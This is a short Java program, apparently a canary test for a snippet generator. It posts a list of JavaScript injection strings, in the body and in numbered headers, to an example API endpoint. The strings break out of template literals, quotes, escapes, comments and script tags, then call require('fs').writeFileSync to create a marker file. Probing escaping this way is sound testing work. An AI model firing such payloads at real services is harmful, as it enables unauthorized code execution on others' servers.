import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;

public class Snippet {
    public static void main(String[] args) throws Exception {
        String body = "${require('fs').writeFileSync('snipgen-canary','')}\n'+require('fs').writeFileSync('snipgen-canary','')+'\n\"+require('fs').writeFileSync('snipgen-canary','')+\"\n`+require('fs').writeFileSync('snipgen-canary','')+`\n\\`+require('fs').writeFileSync('snipgen-canary','')+\\`\n\\${require('fs').writeFileSync('snipgen-canary','')}\n\\'+require('fs').writeFileSync('snipgen-canary','')+\\'\n\\u0027+require('fs').writeFileSync('snipgen-canary','')+\\u0027\n\\x60+require('fs').writeFileSync('snipgen-canary','')+\\x60\n${process.binding('fs')}\n*/require('fs').writeFileSync('snipgen-canary','')/*\n</script><script>require('fs').writeFileSync('snipgen-canary','')</script>\n<!--require('fs').writeFileSync('snipgen-canary','')\n-->require('fs').writeFileSync('snipgen-canary','')\n\u2028require('fs').writeFileSync('snipgen-canary','')\u2029require('fs').writeFileSync('snipgen-canary','')//\n\\";

        HttpRequest request = HttpRequest.newBuilder(URI.create("https://api.example.com/run"))
                .header("X-Try-1", "${require('fs').writeFileSync('snipgen-canary','')}")
                .header("X-Try-2", "'+require('fs').writeFileSync('snipgen-canary','')+'")
                .header("X-Try-3", "\"+require('fs').writeFileSync('snipgen-canary','')+\"")
                .header("X-Try-4", "`+require('fs').writeFileSync('snipgen-canary','')+`")
                .header("X-Try-5", "\\`+require('fs').writeFileSync('snipgen-canary','')+\\`")
                .header("X-Try-6", "\\${require('fs').writeFileSync('snipgen-canary','')}")
                .header("X-Try-7", "\\'+require('fs').writeFileSync('snipgen-canary','')+\\'")
                .header("X-Try-8", "\\u0027+require('fs').writeFileSync('snipgen-canary','')+\\u0027")
                .header("X-Try-9", "\\x60+require('fs').writeFileSync('snipgen-canary','')+\\x60")
                .header("X-Try-10", "${process.binding('fs')}")
                .header("X-Try-11", "*/require('fs').writeFileSync('snipgen-canary','')/*")
                .header("X-Try-12", "</script><script>require('fs').writeFileSync('snipgen-canary','')</script>")
                .header("X-Try-15", "\\")
                .header("Content-Type", "text/plain")
                .POST(HttpRequest.BodyPublishers.ofString(body))
                .build();

        HttpClient client = HttpClient.newHttpClient();
        HttpResponse<String> response = client.send(request, HttpResponse.BodyHandlers.ofString());
        System.out.println(response.body());
    }
}
